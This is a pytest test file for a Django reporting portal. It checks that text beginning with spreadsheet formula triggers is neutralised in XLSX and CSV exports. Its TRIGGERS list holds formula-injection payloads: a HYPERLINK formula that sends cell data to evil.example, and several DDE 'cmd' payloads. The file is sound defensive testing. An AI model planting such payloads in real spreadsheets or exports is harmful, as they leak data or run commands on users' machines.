"""Formula injection (issue 16, High 2): text a user typed or imported never runs as a formula in a download.

Each formula trigger (=, +, -, @, tab, CR) is written through the report page's form (a text figure) and
through the dossier-record import (the reception point), then read back from every file the portal writes:
the workbook (`/tong-hop/tai-xuong/`) and the lists' `?_export=csv|xlsx`. In XLSX the text must be a
string cell with the same characters (never a formula); in CSV it must start with an apostrophe. Numbers
stay numbers and dates stay dates.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from cchc import services
from cchc.choices import FigureType, ReformArea, UnitKind
from cchc.models import FigureValue
from cchc.spreadsheet_safety import csv_value, starts_formula, xlsx_sheet
from conftest import fill_narrative, page_form_data
from procedures.choices import ProcedureLevel
from procedures.importing import COLUMNS, dossier_import_commit
from procedures.models import LedgerRow
from procedures.services import procedure_upsert
from procedures.tests.test_import import line

TRIGGERS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def workbook_cells(content: bytes) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def csv_cells(content: bytes) -> list[str]:
    return [value for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for value in row]


def assert_text_cells_are_safe(cells, text: str) -> None:
    """`text` is in the workbook, as a string cell with the same characters; no cell anywhere is a formula."""
    assert [cell for cell in cells if cell.data_type == "f"] == []
    matching = [cell for cell in cells if cell.value == text]
    assert matching, f"{text!r} not found"
    assert {cell.data_type for cell in matching} == {"s"}


def assert_csv_is_safe(values: list[str], text: str) -> None:
    assert "'" + text in values, f"'{text!r} not found"
    assert not any(starts_formula(value) for value in values), [v for v in values if starts_formula(v)]


@pytest.fixture
def text_figure(db):
    return services.figure_definition_upsert(
        code="ghi_chu", name="Ghi chú khác", area=ReformArea.INSTITUTIONS, value_type=FigureType.TEXT
    )


@pytest.mark.parametrize("trigger", TRIGGERS, ids=["hyperlink", "dde", "plus", "minus", "at", "tab", "cr"])
def test_text_typed_in_a_form_is_never_a_formula_in_any_download(client, cast, report_a, text_figure, trigger):
    client.force_login(cast["clerk_a"])
    url = reverse("report_detail", args=[report_a.pk])
    data = page_form_data(client, url, **{f"figures{int(ReformArea.INSTITUTIONS)}__f_ghi_chu": trigger})
    data["action"] = "save"
    assert client.post(url, data).status_code == 302
    stored = FigureValue.objects.get(report=report_a, definition=text_figure).text
    assert stored.lstrip("\t\r").startswith(("=", "+", "-", "@"))  # the form kept the dangerous text
    report_a.refresh_from_db()
    report = fill_narrative(report_a, cast["clerk_a"])
    services.report_submit(report=report, user=cast["clerk_a"], at=None)

    client.force_login(cast["manager"])
    workbook = client.get(reverse("scorecard_download"), {"period": "2020-Q1"})
    assert workbook.status_code == 200
    assert_text_cells_are_safe(workbook_cells(workbook.content), stored)

    listed = client.get(reverse("figure_value_list"), {"_export": "csv"})
    assert_csv_is_safe(csv_cells(listed.content), stored)
    listed = client.get(reverse("figure_value_list"), {"_export": "xlsx"})
    assert_text_cells_are_safe(workbook_cells(listed.content), stored)


@pytest.fixture
def procedure(db):
    return procedure_upsert(
        code="1.000001",
        name="Cấp bản sao từ sổ gốc",
        field="Tư pháp",
        level=ProcedureLevel.PROVINCE,
        unit_kind=UnitKind.DEPARTMENT,
    )


@pytest.mark.parametrize("trigger", TRIGGERS, ids=["hyperlink", "dde", "plus", "minus", "at", "tab", "cr"])
def test_text_imported_from_a_file_is_never_a_formula_in_any_download(client, cast, period, procedure, trigger):
    # An XLSX upload of text cells: they hold any text (a CSV line cannot hold a bare CR).
    workbook = openpyxl.Workbook()
    workbook.active.append(list(COLUMNS))
    for code in ("HS-1", "HS-2"):
        fields = line(code).split(",")
        fields[3] = trigger
        workbook.active.append(fields)
    xlsx_sheet(workbook.active)  # typed text, not formulas (the import refuses formulas)
    buffer = io.BytesIO()
    workbook.save(buffer)
    upload = SimpleUploadedFile("ho-so.xlsx", buffer.getvalue())
    dossier_import_commit(file=upload, user=cast["clerk_a"])
    stored = LedgerRow.objects.get().reception_point
    assert stored.lstrip("\t\r").startswith(("=", "+", "-", "@"))

    client.force_login(cast["clerk_a"])
    listed = client.get(reverse("dossier_list"), {"_export": "csv"})
    assert_csv_is_safe(csv_cells(listed.content), stored)
    listed = client.get(reverse("dossier_list"), {"_export": "xlsx"})
    assert_text_cells_are_safe(workbook_cells(listed.content), stored)
    report = LedgerRow.objects.get().report
    services.report_submit(report=fill_narrative(report, cast["clerk_a"]), user=cast["clerk_a"], at=None)

    client.force_login(cast["manager"])
    workbook = client.get(reverse("scorecard_download"), {"period": "2020-Q1"})
    assert workbook.status_code == 200
    assert_text_cells_are_safe(workbook_cells(workbook.content), stored)


def test_numbers_stay_numbers_and_dates_stay_dates():
    assert csv_value("-5") == "-5"
    assert csv_value("-0,25") == "-0,25"
    assert csv_value("-2.084") == "-2.084"
    assert csv_value(-5) == -5
    assert csv_value(dt.date(2020, 1, 1)) == dt.date(2020, 1, 1)
    assert csv_value("=1+1") == "'=1+1"
    assert csv_value("Sở Tư pháp") == "Sở Tư pháp"
    assert list(COLUMNS)  # the import's columns are what the upload helper writes
